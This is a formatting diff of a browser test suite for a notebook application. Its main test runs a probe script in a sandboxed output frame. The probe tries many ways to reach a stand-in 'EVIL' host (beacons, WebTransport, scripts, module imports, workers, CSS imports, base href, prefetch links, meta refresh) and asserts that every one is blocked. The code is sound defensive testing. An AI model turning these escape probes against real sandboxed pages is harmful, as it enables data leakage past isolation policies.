@@ -23,12 +23,26 @@ async function probe(OWN, EVIL) {
         localStorage: () => String(localStorage.length),
         sessionStorage: () => String(sessionStorage.length),
         indexedDB: () => typeof indexedDB.open('x'),
-        serviceWorker: () => String(navigator.serviceWorker && navigator.serviceWorker.register(`${OWN}/assets/x.js`) && 'registered'),
+        serviceWorker: () =>
+            String(
+                navigator.serviceWorker &&
+                    navigator.serviceWorker.register(`${OWN}/assets/x.js`) &&
+                    'registered',
+            ),
         referrer: () => document.referrer,
         origin: () => self.origin,
-        secretInAddress: () => String([document.baseURI, location.href, ...(location.ancestorOrigins ?? [])].some((text) => /token|#|\/n\//.test(text))),
+        secretInAddress: () =>
+            String(
+                [document.baseURI, location.href, ...(location.ancestorOrigins ?? [])].some((text) =>
+                    /token|#|\/n\//.test(text),
+                ),
+            ),
         windowOpen: () => String(window.open(`${EVIL}/open`)),
-        beacon: () => (navigator.sendBeacon(`${OWN}/api/links`, 'x'), navigator.sendBeacon(`${EVIL}/beacon`, 'x'), 'sent, if the policy let it'),
+        beacon: () => (
+            navigator.sendBeacon(`${OWN}/api/links`, 'x'),
+            navigator.sendBeacon(`${EVIL}/beacon`, 'x'),
+            'sent, if the policy let it'
+        ),
         dialog: () => String(confirm('?')),
         cookieWrite: () => (document.cookie = 'x=1'),
         caches: () => String(typeof caches.keys),
@@ -37,12 +51,18 @@ async function probe(OWN, EVIL) {
         parentFrames: () => String(parent.frames[0] === self),
         clipboard: () => String(navigator.clipboard ? typeof navigator.clipboard.readText : 'none'),
         download: () => {
-            const link = Object.assign(document.createElement('a'), { href: URL.createObjectURL(new Blob(['x'])), download: 'x' });
+            const link = Object.assign(document.createElement('a'), {
+                href: URL.createObjectURL(new Blob(['x'])),
+                download: 'x',
+            });
             link.click();
             return 'clicked';
         },
         popup: () => {
-            const link = Object.assign(document.createElement('a'), { href: `${EVIL}/popup`, target: '_blank' });
+            const link = Object.assign(document.createElement('a'), {
+                href: `${EVIL}/popup`,
+                target: '_blank',
+            });
             link.click();
             return 'clicked';
         },
@@ -54,17 +74,24 @@ async function probe(OWN, EVIL) {
             report[name] = error.name;
         }
     }
-    const inTime = (name, make) => Promise.race([
-        new Promise((done) => make(done)).catch((error) => error.name),
-        new Promise((done) => setTimeout(done, 1500, 'nothing came')),
-    ]).then((got) => (report[name] = got));
-    const element = (tag, more, to = document.body) => (done) => {
-        const one = Object.assign(document.createElement(tag), more);
-        one.onload = () => done('loaded');
-        one.onerror = () => done('refused');
-        to.append(one);
-    };
-    const fetched = (url, init) => (done) => fetch(url, init).then(() => done('fetched'), (error) => done(error.name));
+    const inTime = (name, make) =>
+        Promise.race([
+            new Promise((done) => make(done)).catch((error) => error.name),
+            new Promise((done) => setTimeout(done, 1500, 'nothing came')),
+        ]).then((got) => (report[name] = got));
+    const element =
+        (tag, more, to = document.body) =>
+        (done) => {
+            const one = Object.assign(document.createElement(tag), more);
+            one.onload = () => done('loaded');
+            one.onerror = () => done('refused');
+            to.append(one);
+        };
+    const fetched = (url, init) => (done) =>
+        fetch(url, init).then(
+            () => done('fetched'),
+            (error) => done(error.name),
+        );
     const socket = (make) => (done) => {
         const one = make();
         one.onopen = () => done('open');
@@ -83,7 +110,10 @@ async function probe(OWN, EVIL) {
         inTime('ownLibrary', fetched(`${OWN}/api/libraries/plotly`)),
         inTime('webTransport', (done) => {
             const one = new WebTransport(`${EVIL.replace('http', 'https')}/transport`);
-            one.ready.then(() => done('open'), () => done('refused'));
+            one.ready.then(
+                () => done('open'),
+                () => done('refused'),
+            );
             one.closed.catch(() => {});
         }),
         inTime('sharedWorker', (done) => {
@@ -95,33 +125,73 @@ async function probe(OWN, EVIL) {
             one.onloadeddata = () => done('loaded');
             one.onerror = () => done('refused');
         }),
-        inTime('notification', (done) => Notification.requestPermission().then(done, (error) => done(error.name))),
-        inTime('geolocation', (done) => navigator.geolocation.getCurrentPosition(() => done('found'), () => done('refused'))),
-        inTime('clipboardRead', (done) => navigator.clipboard.readText().then(() => done('read'), (error) => done(error.name))),
-        inTime('webSocket', socket(() => new WebSocket(`${OWN.replace('http', 'ws')}/ws/main`))),
-        inTime('eventSource', socket(() => new EventSource(`${EVIL}/events`))),
+        inTime('notification', (done) =>
+            Notification.requestPermission().then(done, (error) => done(error.name)),
+        ),
+        inTime('geolocation', (done) =>
+            navigator.geolocation.getCurrentPosition(
+                () => done('found'),
+                () => done('refused'),
+            ),
+        ),
+        inTime('clipboardRead', (done) =>
+            navigator.clipboard.readText().then(
+                () => done('read'),
+                (error) => done(error.name),
+            ),
+        ),
+        inTime(
+            'webSocket',
+            socket(() => new WebSocket(`${OWN.replace('http', 'ws')}/ws/main`)),
+        ),
+        inTime(
+            'eventSource',
+            socket(() => new EventSource(`${EVIL}/events`)),
+        ),
         inTime('image', element('img', { src: `${EVIL}/image` })),
         inTime('ownImage', element('img', { src: `${OWN}/api/notebooks/main` })),
         inTime('script', element('script', { src: `${EVIL}/script` })),
         inTime('style', element('link', { rel: 'stylesheet', href: `${EVIL}/style` }, document.head)),
-        inTime('frame', (done) => element('iframe', { src: `${EVIL}/frame` })((what) => done(what === 'loaded' ? 'an empty frame' : what))),
+        inTime('frame', (done) =>
+            element('iframe', { src: `${EVIL}/frame` })((what) =>
+                done(what === 'loaded' ? 'an empty frame' : what),
+            ),
+        ),
         inTime('object', element('object', { data: `${EVIL}/object` })),
-        inTime('module', (done) => import(`${EVIL}/module`).then(() => done('imported'), (error) => done(error.name))),
+        inTime('module', (done) =>
+            import(`${EVIL}/module`).then(
+                () => done('imported'),
+                (error) => done(error.name),
+            ),
+        ),
         inTime('worker', (done) => {
-            const one = new Worker(URL.createObjectURL(new Blob([`fetch('${EVIL}/worker').then(() => postMessage('fetched'), () => postMessage('refused'))`])));
+            const one = new Worker(
+                URL.createObjectURL(
+                    new Blob([
+                        `fetch('${EVIL}/worker').then(() => postMessage('fetched'), () => postMessage('refused'))`,
+                    ]),
+                ),
+            );
             one.onmessage = ({ data }) => done(data);
             one.onerror = () => done('refused');
         }),
     ]);
-    const quiet = (tag, more, to = document.head) => to.append(Object.assign(document.createElement(tag), more));
-    quiet('style', { textContent: `@import url(${EVIL}/import); body { background: url(${EVIL}/background) } @font-face { font-family: x; src: url(${EVIL}/font) } * { font-family: x }` });
+    const quiet = (tag, more, to = document.head) =>
+        to.append(Object.assign(document.createElement(tag), more));
+    quiet('style', {
+        textContent: `@import url(${EVIL}/import); body { background: url(${EVIL}/background) } @font-face { font-family: x; src: url(${EVIL}/font) } * { font-family: x }`,
+    });
     quiet('base', { href: `${EVIL}/` });
-    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload']) quiet('link', { rel, href: `${EVIL}/${rel}`, as: 'script' });
+    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'modulepreload'])
+        quiet('link', { rel, href: `${EVIL}/${rel}`, as: 'script' });
     report.baseURI = document.baseURI.startsWith(EVIL) ? 'changed' : 'kept';
     await new Promise((done) => setTimeout(done, 300));
     tell(JSON.stringify(report));
     // A frame may lead itself somewhere; the page's policy says that there is nowhere to go. What was reported is gone then.
-    const form = Object.assign(document.createElement('form'), { action: `${OWN}/api/links`, method: 'post' });
+    const form = Object.assign(document.createElement('form'), {
+        action: `${OWN}/api/links`,
+        method: 'post',
+    });
     document.body.append(form);
     form.submit();
     setTimeout(() => quiet('meta', { httpEquiv: 'refresh', content: `0; url=${EVIL}/refresh` }), 1500);
@@ -142,19 +212,33 @@ test('an output reaches neither this page, nor this server, nor any other', { sk
     const html = `<div id="report"></div><script>${script}</script>`;
     await allParts(page);
     line.heard.length = 0;
-    await run(`from IPython.display import HTML\nHTML("${html.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll('\n', '\\n')}")`, 'Shift+Enter', page);
+    await run(
+        `from IPython.display import HTML\nHTML("${html.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll('\n', '\\n')}")`,
+        'Shift+Enter',
+        page,
+    );
     await ran(1, page);
     const report = page.frameLocator('iframe.frame').locator('#report:not(:empty)');
     await report.waitFor();
-    const table = Object.entries(JSON.parse(await report.textContent())).map(([name, got]) => `${name}: ${got}`).sort().join('\n');
+    const table = Object.entries(JSON.parse(await report.textContent()))
+        .map(([name, got]) => `${name}: ${got}`)
+        .sort()
+        .join('\n');
     assert.equal(`${table}\n`, await readFile(GOLDEN, 'utf8'), 'the report is the golden file, line by line');
-    for (let tries = 0; tries < 200 && !page.faults.some((fault) => /frame-src/.test(fault)); tries += 1) await new Promise((done) => setTimeout(done, 50));
-    assert.ok(page.faults.some((fault) => /frame-src/.test(fault)), 'it tried to lead itself away');
+    for (let tries = 0; tries < 200 && !page.faults.some((fault) => /frame-src/.test(fault)); tries += 1)
+        await new Promise((done) => setTimeout(done, 50));
+    assert.ok(
+        page.faults.some((fault) => /frame-src/.test(fault)),
+        'it tried to lead itself away',
+    );
     assert.deepEqual(heard, [], 'nothing came to the other server');
     assert.deepEqual(line.heard, ['/frame/v1'], 'and only the frame itself came to ours');
     assert.equal(await page.locator('.cell').count(), 2, 'the notebook stands');
     // What the browser says about each attempt is the proof, not a fault.
-    forgive(page, /Content Security Policy|sandbox|permission|Permissions policy|transport|ermission|request to|ERR_|Ignored call|Blocked|Refused|Unsafe attempt|Failed to|violates|security|preload/i);
+    forgive(
+        page,
+        /Content Security Policy|sandbox|permission|Permissions policy|transport|ermission|request to|ERR_|Ignored call|Blocked|Refused|Unsafe attempt|Failed to|violates|security|preload/i,
+    );
 });
 
 test('heights that pour in do not keep the page from living', async () => {
@@ -162,17 +246,20 @@ test('heights that pour in do not keep the page from living', async () => {
     await run(`from IPython.display import HTML\nHTML("<script>${flood}</script><p>flood</p>")`);
     await ran(1);
     await page.waitForFunction(() => document.querySelector('iframe.frame').clientHeight > 10);
-    const { gap, tallest } = await page.evaluate(() => new Promise((done) => {
-        let [last, gap, tallest] = [performance.now(), 0, 0];
-        const end = last + 2000;
-        const beat = setInterval(() => {
-            const now = performance.now();
-            gap = Math.max(gap, now - last);
-            last = now;
-            tallest = Math.max(tallest, document.querySelector('iframe.frame').clientHeight);
-            if (now > end) (clearInterval(beat), done({ gap, tallest }));
-        }, 5);
-    }));
+    const { gap, tallest } = await page.evaluate(
+        () =>
+            new Promise((done) => {
+                let [last, gap, tallest] = [performance.now(), 0, 0];
+                const end = last + 2000;
+                const beat = setInterval(() => {
+                    const now = performance.now();
+                    gap = Math.max(gap, now - last);
+                    last = now;
+                    tallest = Math.max(tallest, document.querySelector('iframe.frame').clientHeight);
+                    if (now > end) clearInterval(beat), done({ gap, tallest });
+                }, 5);
+            }),
+    );
     assert.ok(gap < 400, `${gap} ms`);
     assert.ok(tallest <= 4000, `${tallest} px`);
 });
